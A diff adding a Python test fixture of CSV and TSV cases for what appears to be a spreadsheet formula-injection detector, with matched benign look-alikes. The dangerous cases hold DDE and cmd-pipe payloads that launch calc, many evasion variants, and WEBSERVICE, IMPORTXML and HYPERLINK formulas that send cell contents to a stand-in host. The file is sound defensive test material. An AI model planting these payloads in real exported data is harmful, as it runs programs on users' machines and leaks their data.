@@ -1,0 +1,56 @@
+"""Tables in text whose formulas run programs or call out, and honest ones."""
+
+from typing import Final
+
+from tests.corpus.files.case import FileCase
+
+_EXCEL: Final = "=cmd|'/C calc'!A0"
+
+
+def _case(name: str, text: str | bytes, *reasons: str) -> FileCase:
+    data = text.encode() if isinstance(text, str) else text
+    return FileCase(name, lambda: data, frozenset(f"formula_{reason}" for reason in reasons))
+
+
+_DANGEROUS: Final = (
+    _case("program.csv", f"a,b\n1,{_EXCEL}\n", "program"),
+    _case("program-quoted.csv", f'a,b\n1,"{_EXCEL}"\n', "program"),
+    _case("program-plus.csv", "a,b\n+cmd|'/C calc'!A0,2\n", "program"),
+    _case("program-minus.csv", "a,b\n-2+3+cmd|'/C calc'!D2,2\n", "program"),
+    _case("program-at.csv", "a,b\n@SUM(1+1)*cmd|'/C calc'!A0,2\n", "program"),
+    _case("program-behind-tab.csv", f'a,b\n"\t{_EXCEL}",2\n', "program"),
+    _case("program-behind-return.csv", f'a,b\n"\r{_EXCEL}",2\n', "program"),
+    _case("program-semicolons.csv", f"a;b\n1;{_EXCEL}\n", "program"),
+    _case("program.tsv", f"a\tb\n1\t{_EXCEL}\n", "program"),
+    _case("program-utf-16.csv", f"a,b\n1,{_EXCEL}\n".encode("utf-16"), "program"),
+    _case("program-full-width.csv", "a,b\n1,\uff1dcmd|'/C calc'!A0\n", "program"),
+    _case("program-behind-a-mark.csv", f"\ufeff{_EXCEL},b\n", "program"),
+    _case("program-by-path.csv", "a,b\n=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!'',2\n", "program"),
+    _case("program-without-quotes.csv", "a,b\n=cmd|calc!A1,2\n", "program"),
+    _case("program-behind-an-open-quote.csv", f'a,b\n"x,1\n{_EXCEL},2\n', "program"),
+    _case("program-with-a-text-before.csv", 'a,b\n"=""x""&cmd|\'/c calc\'!A0",2\n', "program"),
+    _case("dde.csv", 'a,b\n1,"=DDE(""cmd"",""/C calc"",""x"")"\n', "program"),
+    _case("dde-semicolons.csv", '=DDE("cmd";"/C calc";"x")\n', "program"),
+    _case("webservice.csv", 'a,b\n1,"=WEBSERVICE(""http://a.example/""&A1)"\n', "call"),
+    _case("importxml.csv", '=IMPORTXML(CONCAT("http://a.example/",A1),"//a"),1\n', "call"),
+    _case("importdata-in-small.csv", 'a,b\n1,=importdata("http://a.example")\n', "call"),
+    _case("image.csv", 'a;b\n1;=IF(1,IMAGE("http://a.example/a.png"),2)\n', "call"),
+    _case("link.csv", 'a,b\n1,"=HYPERLINK(""http://a.example/?""&A1,""Click"")"\n', "link"),
+    _case("link-plus.csv", 'a,b\n1,"+HYPERLINK(""http://a.example"")"\n', "link"),
+)
+_HONEST: Final = (
+    _case("signs.csv", "a,b,c\n-1,+49 30 123,-1.5e3\n+1,-,--\n"),
+    _case("sums.csv", 'a,b\n=A1+B1,"=SUM(A1,B1)"\n@handle,@other\n'),
+    _case("sums.tsv", "a\tb\n=A1+B1\t=IF(A1>2,1,0)\n"),
+    _case("talk.csv", 'id,text\n1,"use =cmd|\'/C calc\'!A0 or =HYPERLINK(""x"")"\n2,HYPERLINK(x)\n'),
+    _case("talk-behind-a-number.csv", '-1,"see HYPERLINK(x) and WEBSERVICE(y)"\n'),
+    _case("escaped.csv", f"a,b\n1,'{_EXCEL}\n2,\"'{_EXCEL}\"\n"),
+    _case("text-in-a-formula.csv", 'a,b\n"=IF(A1=1,""HYPERLINK(x)"",""cmd|y!z"")",2\n'),
+    _case("pipes.csv", "a|b|c\n-1|foo|bar!\n@john|hi there!|x\n"),
+    _case("semicolons.csv", "a;b\n-1,5;+2,5\n"),
+    _case("markup.csv", 'a,b\n1,"- one\n- two | three!\n- four"\n'),
+    _case("empty-cells.csv", ',,,\n"","",""\n'),
+    _case("utf-16.csv", "a,b\n-1,ü\n".encode("utf-16")),
+    _case("open-quote.csv", 'size,name\n5",desk\n-1,"x\n'),
+)
+CASES: Final[tuple[FileCase, ...]] = _DANGEROUS + _HONEST
